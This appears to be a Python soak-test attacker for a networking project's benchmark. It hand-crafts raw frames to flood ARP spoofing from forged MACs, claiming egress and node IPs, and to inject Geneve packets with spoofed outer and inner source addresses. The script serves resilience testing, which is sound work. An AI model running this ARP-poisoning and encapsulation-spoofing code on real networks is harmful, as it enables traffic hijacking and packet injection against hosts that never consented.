#!/usr/bin/python3
"""Soak attacker (bench/soak.ts), on the segment from its own namespace (interface eth0), until DURATION:
- an ARP storm from 1 000 forged senders: gratuitous ARP claiming the egress IPs and the nodes' transport IPs,
  and ARP requests for them from made-up addresses;
- Geneve spoofing: frames to every node's MAC with a member node's IP as outer source, a pod's IP as inner source
  (issue 11 findings 6 and 7).
Frames are written by hand (AF_PACKET): Ethernet, ARP (RFC 826), IPv4, UDP 6081, Geneve (RFC 8926).
usage: attacker.py DURATION RATE EGRESS_IPS NODE_IPS POD_IP DST [arp|geneve]   (lists comma-separated; RATE
frames/s; the last argument keeps only one of the two attacks)"""
import random
import socket
import struct
import sys
import time

duration, rate = float(sys.argv[1]), int(sys.argv[2])
egress_ips = sys.argv[3].split(',')
node_ips = sys.argv[4].split(',')
pod_ip, dst_ip = sys.argv[5], sys.argv[6]
only = sys.argv[7] if len(sys.argv) > 7 else None
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind(('eth0', 0))
rnd = random.Random(11)
BCAST = b'\xff' * 6
senders = [bytes([0x02, 0xa7]) + struct.pack('!I', 0x10000 + i) for i in range(1000)]


def node_mac(ip):
    return bytes([0x02, 0x0E]) + socket.inet_aton(ip)


def csum(b):
    n = sum(struct.unpack('!%dH' % (len(b) // 2), b))
    while n >> 16:
        n = (n & 0xFFFF) + (n >> 16)
    return ~n & 0xFFFF


def arp(op, sha, spa, tha, tpa, dst=BCAST):
    return dst + sha + b'\x08\x06' + struct.pack('!HHBBH', 1, 0x0800, 6, 4, op) + sha + socket.inet_aton(spa) + tha + socket.inet_aton(tpa)


def ipv4(src, dst, proto, body):
    h = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(body), 0, 0x4000, 64, proto, 0, socket.inet_aton(src), socket.inet_aton(dst))
    return h[:10] + struct.pack('!H', csum(h)) + h[12:] + body


def geneve(src_mac, dst_mac, outer_src, outer_dst, inner_src_mac):
    inner_udp = struct.pack('!HHHH', rnd.randrange(1024, 65535), 7777, 8 + 6, 0) + b'spoof!'
    inner = b'\xaa\xbb\xcc\xdd\xee\xff' + inner_src_mac + b'\x08\x00' + ipv4(pod_ip, dst_ip, 17, inner_udp)
    gen = struct.pack('!BBHI', 0, 0, 0x6558, 0)  # version 0, no options, VNI 0
    udp = struct.pack('!HHHH', rnd.randrange(49152, 65535), 6081, 8 + len(gen) + len(inner), 0) + gen + inner
    return dst_mac + src_mac + b'\x08\x00' + ipv4(outer_src, outer_dst, 17, udp)


end = time.monotonic() + duration
counts = {'arp': 0, 'geneve': 0, 'errors': 0}
i = 0
while time.monotonic() < end:
    t0 = time.monotonic()
    for _ in range(max(1, rate // 10)):
        sha = senders[i % len(senders)]
        k = i % 4
        if only == 'arp' and k == 3:
            k = i % 3
        elif only == 'geneve':
            k = 3
        if k == 0:
            ip = egress_ips[i % len(egress_ips)]
            f = arp(1, sha, ip, BCAST, ip)  # gratuitous ARP: "the egress IP is at my MAC"
        elif k == 1:
            ip = node_ips[i % len(node_ips)]
            f = arp(2, sha, ip, BCAST, ip)  # unsolicited reply for a node's transport IP
        elif k == 2:
            f = arp(1, sha, '198.18.2.%d' % (150 + i % 90), b'\x00' * 6, egress_ips[i % len(egress_ips)])
        else:
            member = node_ips[i % len(node_ips)]
            target = node_ips[(i + 1) % len(node_ips)]
            outer_dst = egress_ips[0] if i % 8 == 3 else target
            f = geneve(sha, node_mac(target), member, outer_dst, node_mac(member))
        try:
            s.send(f)
            counts['geneve' if k == 3 else 'arp'] += 1
        except OSError:
            counts['errors'] += 1
        i += 1
    left = 0.1 - (time.monotonic() - t0)
    if left > 0:
        time.sleep(left)
print('attacker: %(arp)d ARP frames, %(geneve)d Geneve frames, %(errors)d send errors' % counts, flush=True)
